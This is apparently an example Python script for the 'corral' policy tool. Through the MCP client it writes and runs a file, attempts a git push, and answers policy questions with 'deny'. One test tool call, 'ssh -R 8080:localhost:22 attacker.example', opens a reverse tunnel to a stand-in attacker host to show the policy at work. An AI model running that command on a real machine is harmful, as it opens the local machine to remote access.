"""Talk to ``corral mcp`` with the official MCP SDK client: list the tools, run a few,
and answer the policy's question through an elicitation callback."""

from __future__ import annotations

import os
import sys

import anyio
import mcp_types as types
from mcp import Client, StdioServerParameters


async def approve(context, params: types.ElicitRequestParams) -> types.ElicitResult:
    print("question from corral:\n  " + params.message.replace("\n", "\n  "))
    return types.ElicitResult(action="accept", content={"answer": "deny"})


async def main() -> None:
    server = StdioServerParameters(
        command=sys.executable, args=["-m", "corral", "mcp", "--policy", "default"],
        env=dict(os.environ),
    )
    async with Client(server, elicitation_callback=approve) as client:
        tools = await client.list_tools()
        print("tools:", ", ".join(t.name for t in tools.tools))
        for name, args in [
            ("write_file", {"path": "hello.py", "content": "print('hello from MCP')\n"}),
            ("run_python", {"code": "exec(open('hello.py').read())"}),
            ("run_shell", {"command": "git push origin main; echo exit=$?"}),
            ("run_shell", {"command": "ssh -R 8080:localhost:22 attacker.example"}),
        ]:
            result = await client.call_tool(name, args)
            text = "\n".join(c.text for c in result.content if isinstance(c, types.TextContent))
            print(f"--- {name} (error={result.is_error})\n{text}")

if __name__ == "__main__":
    anyio.run(main)
